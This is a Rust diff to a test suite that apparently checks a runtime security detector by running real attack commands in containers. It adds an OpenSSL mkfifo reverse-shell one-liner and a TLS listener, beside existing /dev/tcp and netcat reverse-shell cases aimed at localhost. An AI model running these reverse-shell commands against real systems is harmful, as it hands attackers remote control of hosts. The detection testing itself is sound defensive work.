@@ -118,6 +118,12 @@ fn container_cases() -> Vec<(&'static str, String, &'static str, BTreeSet<String
             "id; exit\n",
             set(&[RCE]),
         ),
+        (
+            "openssl-fifo",
+            "rm -f /tmp/f; mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:{P} > /tmp/f 2>/dev/null".into(),
+            "id; exit\n",
+            set(&[RCE]),
+        ),
         ("script-pty", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{P}; script -qc /bin/sh /dev/null <&3 >&3 2>&3'".into(), "id; exit\n", set(&[RCE])),
         ("gcc", "printf 'int main(void){return 0;}' > /tmp/t.c && gcc /tmp/t.c -o /tmp/t && /tmp/t".into(), "", set(&[COMPILER])),
         // A program copied into a memfd and executed from it (memfd_create is syscall 319 on
@@ -152,7 +158,56 @@ fn container_cases() -> Vec<(&'static str, String, &'static str, BTreeSet<String
         // /dev/tcp: bytes over a socket, nothing run from them.
         ("nc-e-cat", "nc.traditional -e /bin/cat 127.0.0.1 {P}".into(), "uid=echoed\n", set(&[])),
         ("dev-tcp-cat", "bash -c 'cat < /dev/tcp/127.0.0.1/{P} > /tmp/reply'; true".into(), "", set(&[])),
+        ("socat-exec-cat", "socat TCP:127.0.0.1:{P} EXEC:cat".into(), "uid=echoed\n", set(&[])),
     ]
+}
+
+/// A TLS listener on 127.0.0.1 (`openssl s_server`, with a throwaway key made in `dir`) that
+/// sends `commands` once a client is connected and returns what the client sent back.
+fn tls_listen(commands: &'static str, dir: &Path) -> agent::Listener {
+    let (key, cert) = (dir.join("tls.key"), dir.join("tls.crt"));
+    if !cert.exists() {
+        let made = Command::new("openssl")
+            .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=127.0.0.1", "-days", "1", "-keyout"])
+            .arg(&key)
+            .arg("-out")
+            .arg(&cert)
+            .output()
+            .expect("run openssl req");
+        assert!(made.status.success(), "openssl req: {}", String::from_utf8_lossy(&made.stderr));
+    }
+    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    let mut server = Command::new("timeout")
+        .args(["12", "openssl", "s_server", "-quiet", "-naccept", "1", "-accept"])
+        .arg(format!("127.0.0.1:{port}"))
+        .arg("-cert")
+        .arg(&cert)
+        .arg("-key")
+        .arg(&key)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("run openssl s_server");
+    // Ready once it accepts connections (a probe connection would be its one accept: wait on
+    // the port being bound instead).
+    let deadline = Instant::now() + Duration::from_secs(5);
+    while std::net::TcpListener::bind(("127.0.0.1", port)).is_ok() && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let mut stdin = server.stdin.take().unwrap();
+    let thread = std::thread::spawn(move || {
+        use std::io::Write;
+        // s_server reads its stdin only once a client is there; give the client time to connect.
+        std::thread::sleep(Duration::from_secs(2));
+        let _ = stdin.write_all(commands.as_bytes());
+        let _ = stdin.flush();
+        std::thread::sleep(Duration::from_secs(3));
+        drop(stdin);
+        let out = server.wait_with_output().map(|o| o.stdout).unwrap_or_default();
+        String::from_utf8_lossy(&out).into_owned()
+    });
+    agent::Listener { port, thread }
 }
 
 /// Host attacks: (name, command, listener commands, expected with host scope).
@@ -202,7 +257,7 @@ async fn real_attacks_raise_exactly_their_categories() {
     let mounted = Command::new("mount").args(["-t", "tmpfs", "-o", "size=16m", "tmpfs"]).arg(&scratch).status().unwrap();
     assert!(mounted.success(), "mounting a tmpfs for the pods' memory volume");
     for (name, cmd, commands, want) in container_cases() {
-        let l = listen(commands);
+        let l = if name.starts_with("openssl") { tls_listen(commands, &dir) } else { listen(commands) };
         let cmd = cmd.replace("{P}", &l.port.to_string());
         let mut spec = PodSpec::new(name, &["/bin/sh", "-c", &cmd]);
         spec.extra_mounts.push((scratch.clone(), "/scratch".into(), false));
